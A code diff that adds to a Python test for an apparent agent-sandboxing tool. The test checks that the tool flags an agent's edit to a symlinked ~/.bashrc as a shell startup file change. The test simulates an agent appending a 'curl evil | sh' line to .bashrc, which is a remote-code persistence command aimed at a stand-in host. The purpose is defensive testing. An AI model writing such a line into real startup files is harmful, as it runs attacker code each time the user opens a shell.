@@ -123,6 +123,15 @@ def test_a_dotfile_symlinked_elsewhere_in_the_tree_is_marked_where_it_leads(lo, 
     show = lo("show", patch).stdout.decode()
     assert "M  dotfiles/bash/.bashrc  [0644, " in show and "! shell startup file" in show
     assert "desktop autostart" in show
+    # The agent at work in ~/dotfiles itself: the home lies outside the target,
+    # and its ~/.bashrc still leads to what the agent changes there.
+    from conftest import Layover
+    dots = Layover(lo.state, home / "dotfiles")
+    r = dots.run("echo 'curl evil | sh' >> bash/.bashrc && echo y > notes2.txt", session="dots")
+    assert r.returncode == 0, r.stderr
+    out = dots("status", "dots", env=as_home).stdout.decode()
+    assert "M  bash/.bashrc  ! shell startup file\n" in out and "A  notes2.txt\n" in out
+    dots("discard", "dots", "--now", check=True)
 
 
 def test_hooks_a_hook_manager_runs_at_the_next_commit_are_marked(lo, home, tmp_path):
